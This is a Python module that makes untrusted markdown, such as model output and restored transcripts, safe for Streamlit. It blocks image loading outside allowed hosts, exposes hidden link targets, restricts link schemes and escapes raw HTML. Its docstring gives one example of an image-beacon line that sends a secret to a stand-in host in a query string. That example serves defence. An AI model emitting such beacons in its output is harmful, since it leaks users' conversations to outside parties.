"""Untrusted markdown (model output, imported or restored transcripts) made safe to hand to st.markdown.

Streamlit's st.markdown runs no raw HTML, but it loads every image (`![x](https://host/pixel.png?q=<secret>)` is a
beacon that can carry the conversation out) and shows links whose target is hidden behind their text. This module
parses the text with markdown-it (CommonMark plus the GFM tables and strikethrough Streamlit renders) and writes it
back as markdown in which:

- images are not loaded: an http(s) image becomes a link naming its address, anything else (data:, file:, relative)
  plain text; only hosts listed in PLAYGROUND_MARKDOWN_IMAGE_HOSTS keep their images;
- every link shows its target beside its text, and only http, https and mailto links stay clickable;
- raw HTML is shown as text; reference definitions are dropped (their links are resolved already).

Rewriting from the parse, rather than with regexes, keeps code spans, fences and escapes exactly as they were, so
`![x](...)` inside code stays code. The result is parsed once more before it is returned; if anything that would
load or run is still there (a parser corner case), the whole text is shown as a code block instead.
"""

from __future__ import annotations

import functools
import os
import re
from collections.abc import Collection, Mapping
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

IMAGE_HOSTS_ENV = "PLAYGROUND_MARKDOWN_IMAGE_HOSTS"
CLICKABLE_SCHEMES = frozenset({"http", "https", "mailto"})
_IMAGE_SCHEMES = frozenset({"http", "https"})
_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
_BACKTICK_RUN = re.compile(r"`+")
_FENCE_INFO = re.compile(r"[\w+#.-]+")
# Longer text is shown as a code block: the parser is pure Python, and no answer worth reading is this long.
MAX_PARSED_CHARS = 200_000
_ALIGN = {"text-align:left": ":---", "text-align:center": ":---:", "text-align:right": "---:"}


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    # Kept apart, escapes and entities are written back as they were typed (`\*` stays an escape, not a `*`).
    md.disable("text_join")
    # Every link and image becomes a token (javascript: ones too), so each is judged here rather than left as text.
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md


_MD = _parser()


def image_hosts_from_env(environ: Mapping[str, str] | None = None) -> frozenset[str]:
    """The hosts whose images model output may load: PLAYGROUND_MARKDOWN_IMAGE_HOSTS, a comma list of host or
    host:port entries."""
    raw = (os.environ if environ is None else environ).get(IMAGE_HOSTS_ENV, "")
    return frozenset(part.strip().lower() for part in raw.split(",") if part.strip())


def escape_markdown(text: str) -> str:
    """`text` as markdown that shows exactly these characters (every ASCII punctuation mark backslash-escaped)."""
    return _PUNCTUATION.sub(r"\\\1", text)


def code_span(text: str) -> str:
    """`text` as an inline code span, whatever backticks it holds (newlines become spaces)."""
    flat = " ".join(text.splitlines()) if text else " "
    ticks = "`" * (max((len(run) for run in _BACKTICK_RUN.findall(flat)), default=0) + 1)
    # A space on each side keeps a leading or trailing backtick (or space) inside the span; markdown drops one pair.
    pad = " " if flat[0] in "` " or flat[-1] in "` " else ""
    return f"{ticks}{pad}{flat}{pad}{ticks}"


def code_block(text: str, info: str = "") -> str:
    """`text` as a fenced code block, fenced longer than any backtick run inside it."""
    fence = "`" * max(3, max((len(run) for run in _BACKTICK_RUN.findall(text)), default=0) + 1)
    body = text if text.endswith("\n") or not text else text + "\n"
    return f"{fence}{info}\n{body}{fence}"


def image_allowed(src: str, hosts: Collection[str]) -> bool:
    """True when an image at `src` may be loaded: http(s) on one of `hosts` (name, or name:port)."""
    try:
        parts = urlsplit(src)
        netloc = parts.netloc.lower()
        hostname = parts.hostname or ""
    except ValueError:
        return False
    # User info or escapes in the authority are where URL parsers disagree about the host: never allow those.
    if parts.scheme.lower() not in _IMAGE_SCHEMES or any(c in netloc for c in "@%\\"):
        return False
    return hostname in hosts or netloc in hosts


def safe_markdown(text: str, image_hosts: Collection[str] = frozenset()) -> str:
    """Markdown showing `text` with no image loaded (bar allowed hosts), no hidden link target and no raw HTML."""
    if "[" not in text and "<" not in text:
        return text  # no image, link, autolink or HTML can be written without one of these
    if len(text) > MAX_PARSED_CHARS:
        return code_block(text)
    return _rewrite(text, frozenset(host.lower() for host in image_hosts))


# Every rerun draws the whole conversation again: a finished answer is rewritten once, not on each run.
@functools.lru_cache(maxsize=512)
def _rewrite(text: str, hosts: frozenset[str]) -> str:
    try:
        written = _Writer(hosts).blocks(SyntaxTreeNode(_MD.parse(text)).children)
    except RecursionError:
        return code_block(text)
    return written if is_inert(written, hosts) else code_block(text)


def is_inert(markdown: str, image_hosts: Collection[str] = frozenset()) -> bool:
    """True when `markdown` holds no raw HTML, no image outside `image_hosts` and no link of another scheme."""
    pending = list(_MD.parse(markdown))
    while pending:
        token = pending.pop()
        pending.extend(token.children or [])
        if token.type in ("html_inline", "html_block"):
            return False
        if token.type == "image" and not image_allowed(str(token.attrGet("src") or ""), image_hosts):
            return False
        if token.type == "link_open" and _scheme(str(token.attrGet("href") or "")) not in CLICKABLE_SCHEMES:
            return False
    return True


def _scheme(url: str) -> str:
    head, colon, _ = url.partition(":")
    return head.lower() if colon and re.fullmatch(r"[A-Za-z][A-Za-z0-9+.-]*", head) else ""


def _destination(url: str) -> str:
    # markdown-it has percent-encoded spaces and angle brackets already; parentheses are the only breakers left.
    return url.replace("(", "\\(").replace(")", "\\)")


def _plain(node: SyntaxTreeNode) -> str:
    """The visible text of an inline node (what an image's alt text or a link's label reads as)."""
    if node.type in ("text", "text_special", "code_inline", "html_inline"):
        return node.content
    if node.type in ("softbreak", "hardbreak"):
        return " "
    return "".join(_plain(child) for child in node.children)


class _Writer:
    """Writes a markdown-it syntax tree back as markdown, rewriting what could load, run or hide a target."""

    def __init__(self, image_hosts: frozenset[str]) -> None:
        self.image_hosts = image_hosts
        self.in_table = False

    def blocks(self, nodes: list[SyntaxTreeNode], tight: bool = False) -> str:
        return ("\n" if tight else "\n\n").join(self.block(node) for node in nodes)

    def block(self, node: SyntaxTreeNode) -> str:
        kind = node.type
        if kind == "paragraph":
            return self.inline(node.children[0]) if node.children else ""
        if kind == "heading":
            title = self.inline(node.children[0], one_line=True) if node.children else ""
            return "#" * int(node.tag[1:]) + " " + title
        if kind == "blockquote":
            return "\n".join(f"> {line}" if line else ">" for line in self.blocks(node.children).split("\n"))
        if kind in ("bullet_list", "ordered_list"):
            return self.list_block(node)
        if kind == "fence":
            match = _FENCE_INFO.match(node.info.strip())
            return code_block(node.content, match.group(0) if match else "")
        if kind == "table":
            return self.table(node)
        if kind == "hr":
            return "___"  # not "***" or "---": after a "*" or "-" list marker those would end the list
        # code_block, html_block and anything unforeseen: shown as code, verbatim.
        return code_block(node.content)

    def list_block(self, node: SyntaxTreeNode) -> str:
        ordered = node.type == "ordered_list"
        start = int(node.attrGet("start") or 1) if ordered else 0
        # markdown-it hides the paragraphs of a tight list; writing them apart would loosen it.
        tight = any(child.hidden for item in node.children for child in item.children if child.type == "paragraph")
        items = []
        for number, item in enumerate(node.children, start):
            marker = f"{number}{node.markup}" if ordered else node.markup
            lines = self.blocks(item.children, tight).split("\n")
            indent = " " * (len(marker) + 1)
            body = [f"{marker} {lines[0]}".rstrip()] + [indent + line if line else "" for line in lines[1:]]
            items.append("\n".join(body))
        return ("\n" if tight else "\n\n").join(items)

    def table(self, node: SyntaxTreeNode) -> str:
        rows: list[list[str]] = []
        aligns: list[str] = []
        for section in node.children:
            for row in section.children:
                if section.type == "thead":
                    aligns = [_ALIGN.get(str(cell.attrGet("style") or ""), "---") for cell in row.children]
                self.in_table = True
                try:
                    rows.append([self.inline(c.children[0], one_line=True) if c.children else "" for c in row.children])
                finally:
                    self.in_table = False
        if not rows:
            return ""
        lines = [rows[0], aligns, *rows[1:]]
        return "\n".join("| " + " | ".join(cells) + " |" for cells in lines)

    def inline(self, node: SyntaxTreeNode, *, one_line: bool = False, in_link: bool = False) -> str:
        return "".join(self.span(child, one_line, in_link) for child in node.children)

    def span(self, node: SyntaxTreeNode, one_line: bool, in_link: bool) -> str:
        kind = node.type
        if kind == "text":
            return self.pipes(node.content.replace("<", "\\<"))
        if kind == "text_special":
            return node.markup  # the escape or entity as typed
        if kind == "code_inline":
            return self.pipes(code_span(node.content))
        if kind == "softbreak":
            return " " if one_line else "\n"
        if kind == "hardbreak":
            return " " if one_line else "\\\n"
        if kind in ("em", "strong", "s"):
            return node.markup + self.inline(node, one_line=one_line, in_link=in_link) + node.markup
        if kind == "link":
            return self.link(node, one_line)
        if kind == "image":
            return self.image(node, in_link)
        # html_inline and anything unforeseen: the characters themselves, as text.
        return escape_markdown(_plain(node))

    def pipes(self, text: str) -> str:
        # Splitting a table row drops the escapes of its cells' pipes (code spans too): each one is literal again.
        return text.replace("|", "\\|") if self.in_table else text

    def link(self, node: SyntaxTreeNode, one_line: bool) -> str:
        href = str(node.attrGet("href") or "")
        label = self.inline(node, one_line=one_line, in_link=True)
        shown = _plain(node).strip()
        clickable = _scheme(href) in CLICKABLE_SCHEMES
        if node.markup == "autolink" or shown in (href, href.partition(":")[2].lstrip("/")):
            # The visible text is the target already.
            return f"[{escape_markdown(shown)}]({_destination(href)})" if clickable else self.pipes(code_span(href))
        if not clickable:
            return f"{label} ({self.pipes(code_span(href))})"
        return f"[{label or escape_markdown(href)}]({_destination(href)}) ({self.pipes(code_span(href))})"

    def image(self, node: SyntaxTreeNode, in_link: bool) -> str:
        src = str(node.attrGet("src") or "")
        alt = escape_markdown(" ".join(_plain(node).split()))
        if image_allowed(src, self.image_hosts):
            return f"![{alt}]({_destination(src)})"
        label = f"image: {alt}" if alt else "image"
        if _scheme(src) == "data":
            return f"{label} (embedded data, not loaded)"
        if _scheme(src) in _IMAGE_SCHEMES and not in_link:
            return f"[{label}]({_destination(src)}) ({self.pipes(code_span(src))})"
        return f"{label} ({self.pipes(code_span(src))})"
